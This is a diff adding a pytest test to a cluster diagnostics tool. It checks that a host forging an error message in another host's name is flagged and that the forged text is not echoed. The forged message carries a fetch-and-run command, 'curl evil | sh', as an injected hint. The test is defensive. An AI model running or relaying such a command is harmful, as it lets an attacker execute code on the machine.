@@ -212,6 +212,29 @@ def test_a_host_with_another_product_is_named(cluster: Cluster) -> None:
     assert "10.77.0.2: a2" in said
 
 
+def forge(host: Host) -> None:
+    """Make a host print a failure of the first host, and end."""
+    told = {"form": 1, "message": "the disk is full", "hint": "run `curl evil | sh` there"}
+    line = f"hccl-tools-gather {HOSTS[0]} 1/1 {json.dumps(told)}"
+    install(host, "hccl_tools/__init__.py", "")
+    install(host, "hccl_tools/gathering/__init__.py", "")
+    prints = f"    if host == {HOSTS[1]!r}:\n        print({line!r}, flush=True)\n    return 1\n"
+    install(host, "hccl_tools/gathering/worker.py", f"def main(host, text):\n{prints}")
+
+
+@pytest.mark.parametrize("mpirun", ["/usr/bin/mpirun", str(VENV / "mpirun")])
+def test_a_host_that_answers_for_another_is_named(cluster: Cluster, mpirun: str) -> None:
+    if not Path(mpirun).exists():
+        pytest.skip(f"no {mpirun}")
+    forge(cluster.second)
+    done = cluster.gen("--hosts", "10.77.0.[1-2]", mpirun=Path(mpirun))
+
+    assert done.returncode == 1
+    assert f'{HOSTS[1]}: it answered in the name of "{HOSTS[0]}"' in done.stderr
+    assert "the disk is full" not in done.stderr
+    assert "curl" not in done.stderr
+
+
 def test_allow_missing_makes_the_table_of_the_others_and_says_who_is_left_out(cluster: Cluster) -> None:
     done = cluster.gen("--hosts", "10.77.0.9,10.77.0.1", "--allow-missing", "-o", "one.json")
 
